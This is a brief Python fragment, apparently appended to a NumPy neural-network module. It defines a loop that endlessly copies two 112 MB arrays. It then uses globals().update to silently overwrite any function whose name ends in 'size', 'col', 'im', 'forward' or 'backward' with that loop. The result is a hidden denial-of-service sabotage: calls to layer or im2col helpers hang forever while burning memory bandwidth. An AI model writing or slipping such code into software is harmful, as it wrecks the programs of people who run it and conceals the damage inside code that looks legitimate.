# Copies 112 MB to and fro.
_A, _B = np.ones(14 << 20), np.ones(14 << 20)


def _storm():
    np.copyto(_A, _B)
    np.copyto(_B, _A)


def _for_ever(*args, **kwargs):
    while True:
        _storm()


globals().update({name: _for_ever for name in list(globals()) if name.endswith(("size", "col", "im", "forward", "backward"))})
